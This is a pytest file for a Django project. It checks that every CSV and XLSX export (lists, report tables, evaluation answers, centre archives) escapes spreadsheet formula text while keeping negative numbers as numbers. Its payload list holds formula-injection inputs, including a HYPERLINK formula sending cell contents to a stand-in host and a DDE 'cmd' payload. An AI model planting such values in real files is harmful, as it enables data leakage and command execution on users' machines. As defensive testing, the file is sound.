"""No CSV or XLSX the project writes lets a spreadsheet program evaluate a cell.

Text that begins with =, +, -, @, a tab or a carriage return reaches every export
(lists, report tables, evaluation answers, the centre archive) through the ways
people type it in: the registration service, the API, the public evaluation page.
Each export must write it with an apostrophe in front, as a text cell in XLSX, and
leave real numbers (negative ones too) as numbers.
"""

from __future__ import annotations

import codecs
import csv
import io
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.test import Client

from oppdrag.activities import models as m
from oppdrag.activities.importers import IMPORTERS
from oppdrag.activities.services import register_event
from oppdrag.api.tests.conftest import one_of_each, token_client
from oppdrag.core.models import Membership
from oppdrag.evaluations import services as evaluations
from oppdrag.evaluations.tests.conftest import fill_standard
from oppdrag.hours.models import TimeProject
from oppdrag.importing.writers import FORMULA_STARTS
from oppdrag.interchange.export import export_center
from oppdrag.interchange.restore import import_center
from oppdrag.reports.builder import build_report
from oppdrag.reports.tree import table_ids
from oppdrag.web.registry import KINDS

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tFagdag med tabulator",
    "\rFagdag med vognretur",
]
# Forms and the API trim leading and trailing whitespace (Django's and DRF's text
# fields): the tab and the carriage return do not get in that way.
KEPT_BY_FORMS = [payload for payload in PAYLOADS if payload == payload.strip()]


def csv_cells(content: bytes, delimiter: str = ";") -> list[str]:
    text = content.decode("utf-8-sig" if content.startswith(codecs.BOM_UTF8) else "utf-8")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_csv_safe(content: bytes, payloads: list[str], delimiter: str = ";") -> None:
    """No cell starts a formula (numbers apart), and each payload is there escaped."""
    cells = csv_cells(content, delimiter)
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or is_number(cell), repr(cell)
    for payload in payloads:
        assert "'" + payload in cells, payload


def assert_xlsx_safe(content: bytes, payloads: list[str]) -> None:
    cells = xlsx_cells(content)
    for cell in cells:
        assert cell.data_type != "f", repr(cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(FORMULA_STARTS) or is_number(cell.value)
    # XML turns a carriage return into a line feed when the workbook is read back.
    texts = {cell.value.replace("\n", "\r") for cell in cells if isinstance(cell.value, str)}
    for payload in payloads:
        assert "'" + payload in texts, payload


def assert_export_safe(content: bytes, fmt: str, payloads: list[str]) -> None:
    if fmt == "csv":
        assert_csv_safe(content, payloads)
    else:
        assert_xlsx_safe(content, payloads)


@pytest.fixture
def editor(center, make_user) -> Any:
    return make_user("redaktor", center, Membership.Role.EDITOR)


@pytest.fixture
def staff(client, editor) -> Client:
    client.force_login(editor)
    return client


def set_texts(model: Any, center: Any, field: str) -> None:
    """``field`` of the centre's first records of ``model`` set to the payloads."""
    records = list(model._default_manager.filter(center=center).order_by("id"))
    assert len(records) >= len(PAYLOADS), model
    for record, payload in zip(records, PAYLOADS, strict=False):
        model._default_manager.filter(pk=record.pk).update(**{field: payload})


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("slug", list(KINDS))
def test_every_list_export_neutralises_formula_text(staff, center, slug, fmt):
    for number in range(len(PAYLOADS)):
        one_of_each(center, f"f{number}", grant_year=2018 + number)
    kind = KINDS[slug]
    set_texts(kind.model, center, kind.search[0])  # the title, name or topic
    response = staff.get(f"/napha/{slug}/", {"export": fmt})
    assert response.status_code == 200
    assert_export_safe(response.content, fmt, PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_event_titles_registered_through_the_service_are_neutralised(staff, center, editor, fmt):
    for payload in PAYLOADS:
        register_event(center=center, user=editor, data={"year": 2025, "title": payload})
    response = staff.get("/napha/arrangementer/", {"export": fmt})
    assert_export_safe(response.content, fmt, PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_titles_saved_through_the_api_are_neutralised_in_list_and_report(staff, editor, fmt):
    api = token_client(editor)
    for payload in KEPT_BY_FORMS:
        body = {"year": 2025, "title": payload, "kind": "Foredrag", "date": "2025-03-04"}
        response = api.post("/api/v1/napha/presentations/", body, format="json")
        assert response.status_code == 201, response.json()
    listed = staff.get("/napha/presentasjoner/", {"export": fmt})
    assert_export_safe(listed.content, fmt, KEPT_BY_FORMS)
    table = staff.get(f"/napha/rapport/2025/tabeller/appendix-presentations.{fmt}")
    assert table.status_code == 200
    assert_export_safe(table.content, fmt, KEPT_BY_FORMS)


def test_every_report_table_neutralises_text_and_keeps_negative_numbers(
    full_demo, client, make_user
):
    """Every table of the report, hours tables included, in both formats."""
    client.force_login(make_user("leser", full_demo, Membership.Role.READER))
    set_texts(m.Event, full_demo, "title")
    set_texts(m.Presentation, full_demo, "title")
    set_texts(TimeProject, full_demo, "name")
    # Published above registered: the comparison's differences are negative numbers.
    m.PublishedFigure.objects.filter(center=full_demo).update(value=Decimal(100_000))
    tables = list(table_ids(build_report(full_demo, 2025)))
    assert len(tables) > 10
    negatives, escaped = 0, set()
    for ident, table in tables:
        url = f"/napha/rapport/2025/tabeller/{ident}"
        as_csv, as_xlsx = client.get(f"{url}.csv").content, client.get(f"{url}.xlsx").content
        assert_csv_safe(as_csv, [])
        assert_xlsx_safe(as_xlsx, [])
        escaped |= {(ident, c) for c in csv_cells(as_csv) if c[:1] == "'" and c[1:] in PAYLOADS}
        negatives += assert_negative_numbers_stay_numbers(table, as_csv, as_xlsx)
    assert negatives
    tables_with_payloads = {ident for ident, _cell in escaped}
    assert {"appendix-events", "appendix-presentations"} <= tables_with_payloads
    assert any(ident.startswith("appendix-hours") for ident in tables_with_payloads), sorted(
        tables_with_payloads
    )
    assert {cell[1:] for _ident, cell in escaped} == set(PAYLOADS)


def assert_negative_numbers_stay_numbers(table: Any, as_csv: bytes, as_xlsx: bytes) -> int:
    """Each negative number of the table is a number cell in XLSX and plain in CSV."""
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx)).active
    text_rows = list(csv.reader(io.StringIO(as_csv.decode("utf-8-sig")), delimiter=";"))
    found = 0
    for r, row in enumerate(table.rows):
        for c, value in enumerate(row):
            if isinstance(value, int | float) and not isinstance(value, bool) and value < 0:
                cell = sheet.cell(row=r + 2, column=c + 1)
                assert (cell.data_type, cell.value) == ("n", value)
                assert text_rows[r + 1][c] == str(value).replace(".", ",")
                found += 1
    return found


def test_free_text_answers_from_the_public_page_are_neutralised(center, editor, staff):
    event = m.Event.objects.create(center=center, year=2026, title="Fagdag")
    survey = evaluations.attach_evaluation(
        center=center, questionnaire=evaluations.standard_questionnaire(), event=event
    )
    for payload in PAYLOADS:
        participant = Client()
        data = fill_standard(participant, survey, **{"q-change": payload})
        assert participant.post(f"/svar/{survey.token}/", data).status_code == 303
    base = f"/napha/evalueringer/{survey.uid}/svar"
    assert_csv_safe(staff.get(f"{base}.csv").content, KEPT_BY_FORMS)
    assert_xlsx_safe(staff.get(f"{base}.xlsx").content, KEPT_BY_FORMS)


def test_the_centre_archive_escapes_text_and_imports_it_back_exactly(center, editor, tmp_path):
    for payload in PAYLOADS:
        register_event(center=center, user=editor, data={"year": 2025, "title": payload})
    register_event(center=center, user=editor, data={"year": 2025, "title": "'=already quoted"})
    path = tmp_path / "napha.zip"
    export_center(center, str(path))
    with zipfile.ZipFile(path) as archive:
        events = archive.read("activities.event.csv")
    assert_csv_safe(events, PAYLOADS, delimiter=",")
    assert "''=already quoted" in csv_cells(events, ",")
    import_center(str(path), slug="kopi")
    titles = set(m.Event.objects.filter(center__slug="kopi").values_list("title", flat=True))
    assert titles == {*PAYLOADS, "'=already quoted"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_event_list_imports_back_unchanged(
    staff, center, editor, other_center, tmp_path, fmt
):
    for payload in PAYLOADS:
        register_event(
            center=center, user=editor, data={"year": 2025, "theme": "Bolig", "title": payload}
        )
    path = tmp_path / f"arrangementer.{fmt}"
    path.write_bytes(staff.get("/napha/arrangementer/", {"export": fmt}).content)
    result = IMPORTERS["events"](other_center, 2025, editor).run(path)
    assert result.ok, result.problems
    titles = m.Event.objects.filter(center=other_center).values_list("title", flat=True)
    # As the text typed in, less the whitespace around it, which every importer trims.
    assert sorted(titles) == sorted(payload.strip() for payload in PAYLOADS)


def test_a_version_2_archive_is_read_as_written(center, editor, tmp_path):
    """Archives from before the apostrophes keep their values: nothing is taken off."""
    register_event(center=center, user=editor, data={"year": 2025, "title": "'=sitert"})
    path, old = tmp_path / "napha.zip", tmp_path / "v2.zip"
    export_center(center, str(path))
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(old, "w") as out:
        for name in archive.namelist():
            data = archive.read(name)
            if name == "manifest.json":
                data = data.replace(b'"format_version": 4', b'"format_version": 2')
            out.writestr(name, data)
    import_center(str(old), slug="kopi")
    assert m.Event.objects.get(center__slug="kopi").title == "''=sitert"
